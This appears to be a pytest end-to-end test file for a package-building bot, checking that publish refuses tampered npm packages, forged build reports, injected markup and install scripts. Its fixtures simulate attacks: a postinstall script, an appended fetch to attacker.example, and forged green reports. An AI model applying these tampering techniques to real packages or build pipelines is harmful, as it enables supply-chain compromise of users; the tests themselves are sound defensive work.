"""What a maintainer reviews is byte for byte what users download: publish rebuilds the package from the spec.

Stories of a build job (where generated code runs) that hands over something else than it should: rewritten
package and report, forged reports, markup in a checksum, lost hidden files, an install script. Real node,
esbuild and npm; real git; the local forge through the real CLI, or PyGithub against the fake GitHub.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import git
import pytest

from factory_bot import gitops as flows
from factory_bot.build import trusted
from factory_bot.build.pipeline import build
from factory_bot.errors import IntegrityError
from factory_bot.forge.local import LocalForge
from factory_bot.spec.loader import load_spec_text
from tests.fakes.github_api import FakeGitHub
from tests.faults_support import SMALL, built_request, status_of, yaml_request
from tests.github_forge import forge_for

pytestmark = pytest.mark.e2e
IDENTITY = {
    "GIT_AUTHOR_NAME": "Alice",
    "GIT_AUTHOR_EMAIL": "a@example.com",
    "GIT_COMMITTER_NAME": "Alice",
    "GIT_COMMITTER_EMAIL": "a@example.com",
}
TAG = "echo-box-v1.0.0"
TGZ = "echo-box-1.0.0.tgz"
MARKUP = "[x](http://evil) @octocat Closes #2 <img src=x>"
FAILING = SMALL.replace("output: hi}", "output: bye}")  # the example expects what the code never returns


def factory_bot(
    *args: str, env: dict[str, str] | None = None, umask: int | None = None, check: bool = True
) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        ["factory-bot", *args],
        capture_output=True,
        text=True,
        timeout=600,
        cwd="/",
        env=os.environ | (env or {}),
        preexec_fn=None if umask is None else (lambda: os.umask(umask)),
    )
    if check:
        assert result.returncode == 0, result.stderr + result.stdout
    return result


def test_two_builds_in_other_directories_caches_and_umasks_make_the_same_package(tmp_path: Path):
    spec = tmp_path / "echo-box.yaml"
    spec.write_text(SMALL)
    first = json.loads(
        factory_bot("build", str(spec), "--out", str(tmp_path / "out" / "a"), "--json", "-q", umask=0o022).stdout
    )
    # A second toolchain, freshly installed elsewhere, and a umask that leaves every file private.
    second = json.loads(
        factory_bot(
            "build",
            str(spec),
            "--out",
            str(tmp_path / "out" / "a" / "b" / "c"),
            "--json",
            "-q",
            env={"FACTORY_BOT_CACHE": str(tmp_path / "other-cache")},
            umask=0o077,
        ).stdout
    )

    assert (tmp_path / "other-cache").is_dir()
    assert first["ok"] and second["ok"] and first["tgz"] != second["tgz"]
    assert first["sha256"] == second["sha256"]
    assert Path(first["tgz"]).read_bytes() == Path(second["tgz"]).read_bytes()
    # Not only the package: every file of the two server directories (sources, bundle, map) is the same.
    a, b = Path(first["server_dir"]), Path(second["server_dir"])
    for path in sorted(p for p in a.rglob("*") if p.is_file() and "node_modules" not in p.parts):
        assert path.read_bytes() == (b / path.relative_to(a)).read_bytes(), path
    bundle = (Path(second["server_dir"]) / "dist" / "index.js").read_text()
    assert str(tmp_path) not in bundle and "other-cache" not in bundle and ".cache/mcp-factory" not in bundle
    with tarfile.open(second["tgz"]) as archive:
        modes = {m.name: (m.mode, m.mtime, m.uid, m.uname) for m in archive.getmembers()}
    assert list(modes) == sorted(modes)
    assert modes["package/dist/index.js"][0] == 0o755 and modes["package/package.json"][0] == 0o644


# -- the release: a package and report rewritten between the build and publish jobs -----------------------
@pytest.fixture
def spec_on_main(tmp_path: Path) -> tuple[git.Repo, list[str]]:
    repo = git.Repo.init(tmp_path / "servers", initial_branch="main")
    (tmp_path / "servers" / "specs").mkdir()
    (tmp_path / "servers" / "specs" / "echo-box.yaml").write_text(SMALL)
    repo.git.add("--all")
    repo.git.commit("-m", "echo-box 1.0.0", env=IDENTITY)
    push = tmp_path / "push.json"
    push.write_text(json.dumps({"ref": "refs/heads/main", "after": repo.head.commit.hexsha}))
    return repo, ["--forge", "local", "--repo", str(repo.working_tree_dir), "--event", str(push), "-q"]


def rewrite_package(tgz: Path) -> str:
    """What the detached child did: a postinstall script and a line in dist/index.js; returns the new sha256."""
    with tarfile.open(tgz) as archive:
        files = {m.name: (m, archive.extractfile(m).read()) for m in archive.getmembers() if m.isfile()}
    manifest = json.loads(files["package/package.json"][1])
    manifest["scripts"]["postinstall"] = "node -e \"require('fs').writeFileSync('/tmp/pwned', '')\""
    files["package/package.json"] = (files["package/package.json"][0], json.dumps(manifest).encode())
    member, bundle = files["package/dist/index.js"]
    files["package/dist/index.js"] = (member, bundle + b"\nfetch('https://attacker.example/');\n")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for member, data in files.values():
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    tgz.write_bytes(out.getvalue())
    return hashlib.sha256(out.getvalue()).hexdigest()


def test_a_package_and_report_rewritten_after_the_build_are_refused_and_nothing_is_released(
    spec_on_main: tuple[git.Repo, list[str]], tmp_path: Path
):
    repo, common = spec_on_main
    work = tmp_path / "work"
    factory_bot("on-push", "--stage", "build", "--workdir", str(work), *common)
    out = work / "release" / TAG
    honest = {p.name: p.read_bytes() for p in (out / TGZ, out / "build.json", out / f"{TGZ}.sha256")}

    forged = rewrite_package(out / TGZ)
    report = json.loads((out / "build.json").read_text())
    report["sha256"] = forged
    (out / "build.json").write_text(json.dumps(report))
    (out / f"{TGZ}.sha256").write_text(f"{forged}  {TGZ}\n")

    refused = factory_bot("on-push", "--stage", "publish", "--workdir", str(work), *common, check=False)
    assert refused.returncode == 2, refused.stderr
    assert "possible tampering" in refused.stderr and forged in refused.stderr
    assert "hint:" in refused.stderr and "nothing was published" in refused.stderr
    forge = LocalForge(repo.working_tree_dir)
    assert forge.get_release(TAG) is None and not forge.list_releases()
    assert TAG not in [t.name for t in repo.tags]

    for name, data in honest.items():  # the build job's files as it wrote them
        (out / name).write_bytes(data)
    factory_bot("on-push", "--stage", "publish", "--workdir", str(work), *common)
    release = forge.get_release(TAG)
    assert release is not None
    asset = forge.download_asset(release.asset(TGZ))
    rebuilt = (work / "trusted" / TAG / TGZ).read_bytes()
    assert asset == rebuilt == honest[TGZ]
    assert hashlib.sha256(asset).hexdigest() == json.loads(honest["build.json"])["sha256"]
    assert hashlib.sha256(asset).hexdigest() in release.body


def test_publish_succeeds_when_the_artifact_lost_every_hidden_file(tmp_path: Path):
    """upload-artifact v4.4+ drops hidden files (.gitignore) and we never upload node_modules."""
    repo = git.Repo.init(tmp_path / "servers", initial_branch="main")
    (tmp_path / "servers" / "README.md").write_text("# my servers\n")
    repo.git.add("README.md")
    repo.git.commit("-m", "start", env=IDENTITY)
    event = tmp_path / "issue.json"
    event.write_text(
        json.dumps(
            {
                "action": "opened",
                "issue": {"number": 3, "title": "Echo", "body": yaml_request(SMALL), "user": {"login": "alice"}},
            }
        )
    )
    work = tmp_path / "w"
    common = [
        "--forge",
        "local",
        "--repo",
        str(repo.working_tree_dir),
        "--event",
        str(event),
        "--workdir",
        str(work),
        "-q",
    ]
    factory_bot("on-issue", "--stage", "parse", *common)
    factory_bot("on-issue", "--stage", "build", *common)
    reported = json.loads((work / "build.json").read_text())["sha256"]
    hidden = [p for p in work.rglob(".*") if p.is_file()]
    assert any(p.name == ".gitignore" for p in hidden)
    for path in hidden:
        path.unlink()
    for modules in list(work.rglob("node_modules")):
        modules.unlink() if modules.is_symlink() else shutil.rmtree(modules)

    opened = json.loads(factory_bot("on-issue", "--stage", "publish", *common[:-1], "--json").stdout)
    assert opened["sha256"] == reported
    pull = LocalForge(repo.working_tree_dir).find_pull("factory/echo-box")
    assert pull is not None and reported in pull.body
    assert "servers/echo-box/.gitignore" in repo.git.ls_tree("-r", "--name-only", "factory/echo-box")


# -- the request: a failing build whose reports were forged ------------------------------------------------
def context(github: FakeGitHub, workdir: Path) -> flows.Context:
    workdir.mkdir(parents=True, exist_ok=True)
    return flows.Context(workdir=workdir, forge=lambda: forge_for(github), builder=build)


def on_github(github: FakeGitHub) -> str:
    """Every text the bot left on GitHub: comments and PR bodies."""
    return "\n".join([c["body"] for c in github.comments.values()] + [p["body"] for p in github.pulls.values()])


def failed_build(github: FakeGitHub, work: Path) -> tuple[int, dict]:
    """A request whose example fails, through the real parse and build stages; (issue, its build.json)."""
    issue = github.open_issue("Echo", yaml_request(FAILING))["number"]
    flows.on_issue(github.issue_event(issue), context(github, work), stage="parse")
    with pytest.raises(Exception, match="failed validation"):
        flows.on_issue(github.issue_event(issue), context(github, work), stage="build")
    return issue, json.loads((work / "build.json").read_text())


def all_green(report: dict, sha256: str) -> dict:
    return report | {"ok": True, "sha256": sha256, "checks": [c | {"ok": True} for c in report["checks"]]}


def forge_reports(work: Path, report: dict) -> None:
    (work / "build.json").write_text(json.dumps(report))
    (work / "outcome.json").write_text(json.dumps({"ok": True, "stage": "build"}))


def test_a_failing_build_whose_reports_say_green_with_markup_in_the_checksum_opens_no_pr(
    github: FakeGitHub, tmp_path: Path
):
    issue, report = failed_build(github, tmp_path / "w")
    assert report["ok"] is False and report["sha256"] is None
    forge_reports(tmp_path / "w", all_green(report, MARKUP) | {"tgz": MARKUP, "report_markdown": MARKUP})

    with pytest.raises(IntegrityError) as refused:
        flows.on_issue(github.issue_event(issue), context(github, tmp_path / "w"), stage="publish")

    assert "build.json is not a report the bot writes (forged or garbled): sha256" in str(refused.value)
    assert not github.pulls
    status = status_of(github, issue)
    assert status.startswith(":x:") and "forged or garbled" in status
    assert github.issues[issue]["labels"] == ["mcp-factory: failed"]
    for piece in ("@octocat", "<img", "http://evil", "Closes #2", "](", "[x]"):
        assert piece not in on_github(github)


@pytest.mark.parametrize(
    "forgery",
    ["outcome only", "a failing check removed", "another sha256", "every check flipped, the runner saw the job fail"],
)
def test_a_failing_build_with_a_forged_report_is_reported_failed_and_opens_no_pr(
    github: FakeGitHub, tmp_path: Path, forgery: str
):
    work = tmp_path / "w"
    issue, report = failed_build(github, work)
    rebuilt = trusted.make_package(load_spec_text(FAILING), tmp_path / "attacker").sha256  # anyone can compute it
    if forgery == "outcome only":
        forge_reports(work, report)
    elif forgery == "a failing check removed":
        green = all_green(report, rebuilt)
        forge_reports(work, green | {"checks": [c for c in green["checks"] if c["name"] != "examples"]})
    elif forgery == "another sha256":
        forge_reports(work, all_green(report, "0" * 64))
    else:  # a perfect forgery: only the job's conclusion, which no file can change, tells the truth
        forge_reports(work, all_green(report, rebuilt))

    ctx = context(github, work)
    ctx.build_result = "failure" if forgery.endswith("fail") else None
    if forgery == "another sha256":
        with pytest.raises(IntegrityError, match="possible tampering"):
            flows.on_issue(github.issue_event(issue), ctx, stage="publish")
    else:
        outcome = flows.on_issue(github.issue_event(issue), ctx, stage="publish")
        assert outcome["ok"] is False
        assert ("the build job ended with failure" if ctx.build_result else "does not show a passed build") in outcome[
            "error"
        ]
    assert not github.pulls
    assert status_of(github, issue).startswith(":x:")
    assert github.issues[issue]["labels"] == ["mcp-factory: failed"]


def test_a_package_with_an_install_script_is_refused_by_publish(
    github: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    issue = github.open_issue("Echo", yaml_request(SMALL))["number"]
    work = built_request(tmp_path / "w", issue)
    render = trusted.write_server

    def with_postinstall(spec, directory):  # a template that grew a lifecycle script
        files = render(spec, directory)
        manifest = json.loads((Path(directory) / "package.json").read_text())
        manifest["scripts"]["postinstall"] = "node dist/index.js --setup"
        (Path(directory) / "package.json").write_text(json.dumps(manifest, indent=2))
        return files

    monkeypatch.setattr(trusted, "write_server", with_postinstall)
    with pytest.raises(IntegrityError, match="install-time script.* postinstall"):
        flows.on_issue(github.issue_event(issue), context(github, work), stage="publish")
    assert not github.pulls
    assert "postinstall" in status_of(github, issue)
